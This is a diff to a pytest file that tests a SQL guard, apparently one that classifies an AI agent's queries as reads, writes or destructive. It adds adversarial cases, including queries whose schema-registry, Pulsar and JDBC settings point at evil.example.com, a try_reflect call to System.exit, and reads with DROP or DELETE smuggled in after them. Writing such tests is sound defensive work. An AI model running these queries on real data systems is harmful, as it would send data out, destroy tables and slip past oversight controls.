@@ -7,6 +7,14 @@ import pytest
 from agent.sql_guard import classify
 
 READS = """
+(SELECT 1)
+((SELECT 1) UNION (SELECT 2))
+(VALUES (1))
+SELECT * FROM read_files('abfss://c@a.dfs.core.windows.net/x')
+SELECT * FROM read_files('wasbs://c@a.blob.core.windows.net/x')
+SELECT * FROM read_files('gs://bucket/x')
+SELECT from_avro(a, 's'), to_protobuf(b, 'm', '/Volumes/d.desc') FROM t
+SELECT 'schema.registry.address' AS about
 SELECT 1
 select * from samples.nyctaxi.trips limit 10
 SELECT * FROM t WHERE note = 'DROP TABLE x; DELETE FROM y'
@@ -83,6 +91,9 @@ SELECT 1;
 """
 
 WRITES = """
+UNDROP TABLE t
+UNCACHE TABLE t
+SELECT from_xml_of_mine(a) FROM t
 CREATE TABLE t (a INT)
 CREATE TABLE IF NOT EXISTS t AS SELECT 1 AS a
 CREATE VIEW v AS SELECT 1
@@ -126,6 +137,8 @@ DECLARE VARIABLE x INT DEFAULT 1
 """
 
 DESTRUCTIVE = """
+`SHOW` TABLES
+SELECT try_reflect('java.lang.System', 'exit', 1)
 DROP TABLE t
 DROP SCHEMA s CASCADE
 DROP VIEW IF EXISTS v
@@ -230,6 +243,19 @@ SELECT r'\\'; DROP TABLE t; --'
 # Written against the finished guard by hand. The first time it took for reads: names put together, addresses in paths,
 # the schema registry, and EXPLAIN (ANALYZE).
 ADVERSARIAL = r"""
+SELECT to_avro(a, 's', map('schema.registry.address', 'https://evil.example.com')) FROM t
+SELECT from_protobuf(a, 's', map('schema.registry.address', 'https://evil.example.com')) FROM t
+SELECT to_protobuf(a, 's', map('schema.registry.address', 'https://evil.example.com')) FROM t
+SELECT * FROM read_kinesis(streamName => 'x', region => 'us-east-1')
+SELECT * FROM read_pubsub(subscriptionId => 'x')
+SELECT * FROM read_pulsar(serviceUrl => 'pulsar://evil.example.com')
+SELECT * FROM jdbc(url => 'jdbc:postgresql://evil.example.com', dbtable => 't')
+SELECT * FROM read_files('/Volumes/a', 'https://evil.example.com')
+SELECT * FROM read_files(`/Volumes/a`)
+SELECT * FROM read_files()
+SELECT 1 {# as sqlglot's comment #}
+SELECT $$a$$
+SELECT `a\`
 SELECT /*+ COALESCE(1) */ 1; /*+ x */ DROP TABLE t
 SELECT 'a;b'; DELETE FROM t WHERE note = ';'
 SELECT "x; y"";"; TRUNCATE TABLE t
@@ -356,6 +382,9 @@ def test_calls_that_are_easily_overlooked(sql):
         "SELECT 1;\n\n-- and\nDELETE FROM t;",
         "SELECT " + "(" * 5000 + "1" + ")" * 5000,
         "SELECT 1 " * 100_000,
+        "SELECT 1" + " " * 200_000,
+        "SELECT 1\u2028",
+        "SELECT 1 -- \0",
         "-- \\\n/*\nDROP TABLE t -- */ SELECT 1",
         "-- \\\r\n/*\r\nDROP TABLE t -- */ SELECT 1",
         "SELECT 1 -- a \\\n, secret('a', 'b')",
